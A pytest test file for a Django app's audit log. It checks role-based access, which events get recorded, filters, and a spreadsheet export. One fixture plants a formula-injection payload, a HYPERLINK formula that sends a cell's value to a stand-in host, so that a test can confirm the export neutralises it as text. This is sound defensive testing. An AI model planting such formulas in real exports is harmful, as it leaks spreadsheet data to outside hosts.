"""The audit log (三员分立, 等保2.0 security audit): what it records, and its page and export,
which are the audit administrator's alone."""

from __future__ import annotations

import io
from http import HTTPStatus

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from liaison.constants import EntryScope, Role
from liaison.models import AuditEvent, User
from liaison.services.audit import audit_record
from tests.fixtures.factories import PASSWORD, make_user

AUDIT_URLS = ["liaison:audit_log", "liaison:audit_log_export"]


def rows_of(response) -> list[list[str]]:
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


# -- Who reads it -------------------------------------------------------------------------------


@pytest.mark.parametrize("role", list(Role))
@pytest.mark.parametrize("name", AUDIT_URLS)
def test_only_the_audit_administrator_reads_the_audit_log(world, client_for, role, name):
    response = client_for(world.users[role]).get(reverse(name))
    expected = HTTPStatus.OK if role == Role.AUDIT_ADMIN else HTTPStatus.NOT_FOUND
    assert response.status_code == expected


@pytest.mark.parametrize("name", AUDIT_URLS)
def test_not_even_the_superuser_reads_it_and_anonymous_logs_in(world, client, name):
    root = make_user("", username="root", is_superuser=True, is_staff=True)
    assert Client().get(reverse(name)).status_code == HTTPStatus.FOUND
    client.force_login(root)
    assert client.get(reverse(name)).status_code == HTTPStatus.NOT_FOUND


def test_the_audit_administrator_changes_nothing_and_reads_no_ledger(world, client_for):
    client = client_for(world.users[Role.AUDIT_ADMIN])
    assert client.post(reverse("liaison:audit_log")).status_code == HTTPStatus.METHOD_NOT_ALLOWED
    for name in ("liaison:person_list", "liaison:pairing_list"):
        response = client.get(reverse(name))
        assert response.status_code == HTTPStatus.OK
        assert 'data-testid="result-count"' in response.content.decode()
    assert client.get(reverse("liaison:ledger_all")).status_code == HTTPStatus.NOT_FOUND
    assert client.get(reverse("feedback:dashboard")).status_code == HTTPStatus.NOT_FOUND
    assert client.get(reverse("liaison:org_detail", args=[world.company.pk])).status_code == 404
    assert client.get(reverse("admin:index")).status_code == HTTPStatus.FOUND  # to the login


@pytest.mark.parametrize("role", [Role.SECURITY_ADMIN, Role.AUDIT_ADMIN])
def test_the_security_and_audit_administrators_read_no_ledger_even_with_a_scope(world, role):
    from liaison import permissions

    user = world.users[role]
    user.scope_org = world.company  # set behind the model's back: still nothing
    assert permissions.scope_path(user) is None
    assert not permissions.visible_entries(user).exists()
    assert not permissions.visible_people(user).exists()


def test_their_home_shows_their_own_work(world, client_for):
    body = client_for(world.users[Role.AUDIT_ADMIN]).get(reverse("home")).content.decode()
    assert 'data-testid="latest-events"' in body and reverse("liaison:audit_log") in body
    body = client_for(world.users[Role.SECURITY_ADMIN]).get(reverse("home")).content.decode()
    assert 'data-testid="accounts-by-role"' in body
    assert reverse("liaison:audit_log") not in body


def test_an_administrator_is_never_a_superuser(world):
    from django.core.exceptions import ValidationError

    for role in (Role.ADMINISTRATOR, Role.SECURITY_ADMIN, Role.AUDIT_ADMIN):
        user = world.users[role]
        user.is_superuser = True
        with pytest.raises(ValidationError) as error:
            user.full_clean()
        assert "is_superuser" in error.value.message_dict
    auditor = world.users[Role.AUDIT_ADMIN]
    auditor.is_superuser, auditor.scope_org = False, world.company
    with pytest.raises(ValidationError) as error:
        auditor.full_clean()
    assert set(error.value.message_dict) == {"scope_org"}


# -- What it records ----------------------------------------------------------------------------


def test_login_logout_and_failures_are_recorded(world):
    client = Client(REMOTE_ADDR="10.1.2.3")
    secretary = world.users[Role.BRANCH_SECRETARY]
    login = reverse("login")
    client.post(login, {"username": "sj", "password": "wrong-password"})
    failed = AuditEvent.objects.get(action=AuditEvent.Action.LOGIN_FAILED)
    assert failed.actor is None and failed.object_id == str(secretary.pk)
    assert {key: failed.data[key] for key in ("username", "address")} == {
        "username": "sj",
        "address": "10.1.2.3",
    }
    assert "wrong-password" not in str(failed.data)
    client.post(login, {"username": "nobody", "password": "x"})
    assert AuditEvent.objects.filter(
        action=AuditEvent.Action.LOGIN_FAILED, data__username="nobody"
    ).exists()
    assert client.post(login, {"username": "sj", "password": PASSWORD}).status_code == 302
    event = AuditEvent.objects.get(action=AuditEvent.Action.LOGIN)
    assert event.actor == secretary and "superuser" not in event.data
    client.post(reverse("logout"))
    assert AuditEvent.objects.get(action=AuditEvent.Action.LOGOUT).actor == secretary


def test_every_use_of_the_superuser_is_recorded(world, client):
    root = make_user("", username="root", is_superuser=True, is_staff=True)
    client.post(reverse("admin:login"), {"username": "root", "password": PASSWORD})
    login = AuditEvent.objects.get(action=AuditEvent.Action.LOGIN, actor=root)
    assert login.data["superuser"] is True
    client.get(reverse("admin:liaison_person_changelist"))
    client.get(reverse("liaison:person_list"))
    uses = AuditEvent.objects.filter(action=AuditEvent.Action.SUPERUSER, actor=root)
    paths = set(uses.values_list("data__path", flat=True))
    assert {reverse("admin:liaison_person_changelist"), reverse("liaison:person_list")} <= paths


def test_an_ordinary_request_writes_no_audit_row(world, client_for):
    client = client_for(world.users[Role.BRANCH_SECRETARY])
    before = AuditEvent.objects.count()
    client.get(reverse("liaison:person_list"))
    assert AuditEvent.objects.count() == before


def test_exports_are_recorded_with_their_filter(world, client_for):
    secretary = world.users[Role.BRANCH_SECRETARY]
    client = client_for(secretary)
    url = reverse(f"liaison:ledger_{EntryScope.BRANCH}_export")
    assert client.get(url, {"colour": "red", "q": "变压器"}).status_code == HTTPStatus.OK
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORTED)
    assert event.actor == secretary
    assert event.data == {
        "export": "entries:branch",
        "filters": {"colour": "red", "q": "变压器"},
    }
    # A refused export (a bad filter) exports nothing and records nothing.
    assert client.get(url, {"colour": "purple"}).status_code == HTTPStatus.BAD_REQUEST
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORTED).count() == 1


def test_the_dashboard_export_is_recorded(world, client_for):
    client = client_for(world.users[Role.PARTY_BUILDING])
    response = client.get(reverse("feedback:dashboard_export"))
    assert response.status_code == HTTPStatus.OK
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORTED)
    assert event.data["export"] == "dashboard"


# -- The page, its filters and its export -------------------------------------------------------


@pytest.fixture
def events(world):
    secretary = world.users[Role.BRANCH_SECRETARY]
    audit_record(
        actor=secretary,
        action=AuditEvent.Action.LOGIN,
        obj=secretary,
        summary='=HYPERLINK("http://x/?"&A1,"X")',
    )
    audit_record(
        actor=world.users[Role.SECURITY_ADMIN],
        action=AuditEvent.Action.ROLE_CHANGED,
        obj=secretary,
        summary="sj: role changed",
    )


def test_the_filters_narrow_the_page_and_the_export(world, client_for, events):
    client = client_for(world.users[Role.AUDIT_ADMIN])
    page = client.get(reverse("liaison:audit_log"), {"action": "role_changed"}).content.decode()
    assert "sj: role changed" in page and "HYPERLINK" not in page
    page = client.get(reverse("liaison:audit_log"), {"actor": "aq", "q": "role"}).content.decode()
    assert "sj: role changed" in page
    response = client.get(reverse("liaison:audit_log_export"), {"actor": "sj"})
    rows = rows_of(response)
    assert rows[0][:3] == ["Time", "Account", "Action"] or rows[0][0] == "时间"
    assert [row[5] for row in rows[1:]] == ['=HYPERLINK("http://x/?"&A1,"X")']
    # The formula is text: openpyxl reads it back as the string, and the cell's type is "s".
    book = load_workbook(
        io.BytesIO(
            b"".join(
                client.get(reverse("liaison:audit_log_export"), {"actor": "sj"}).streaming_content
            )
        )
    )
    assert book.active.cell(row=2, column=6).data_type == "s"
    exported = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORTED).first()
    assert exported.data == {"export": "audit_log", "filters": {"actor": "sj"}}
    assert exported.actor == world.users[Role.AUDIT_ADMIN]


@pytest.mark.parametrize("name", AUDIT_URLS)
@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"since": "yesterday"}, "输入一个有效的日期"),
        ({"action": "deleted"}, "选择一个有效的选项"),
        ({"nonsense": "1"}, "无法识别的筛选条件"),
        ({"q": "x" * 101}, "100"),
        ({"sort": "summary"}, "summary"),
    ],
)
def test_bad_filters_are_400_with_a_chinese_message(world, client_for, name, params, message):
    client = client_for(world.users[Role.AUDIT_ADMIN])
    response = client.get(reverse(name), params)
    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert message in response.content.decode()
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORTED).exists()


@pytest.mark.parametrize("rows", [10, 1000])
def test_the_page_reads_a_fixed_number_of_queries(
    world, client_for, django_assert_num_queries, rows
):
    actors = list(User.objects.all())
    AuditEvent.objects.bulk_create(
        AuditEvent(
            actor=actors[i % len(actors)],
            action=AuditEvent.Action.LOGIN,
            object_type="liaison.user",
            summary=f"login {i}",
        )
        for i in range(rows)
    )
    client = client_for(world.users[Role.AUDIT_ADMIN])
    with django_assert_num_queries(QUERIES):
        assert client.get(reverse("liaison:audit_log")).status_code == HTTPStatus.OK


# The session, the user, the count, the page of events with their actors (one join), the
# notification badge's count.
QUERIES = 5


def test_a_retention_below_six_months_is_warned_of(settings):
    from liaison.checks import audit_retention

    assert audit_retention() == []
    settings.AUDIT_RETENTION_DAYS = 90
    assert [message.id for message in audit_retention()] == ["liaison.W001"]
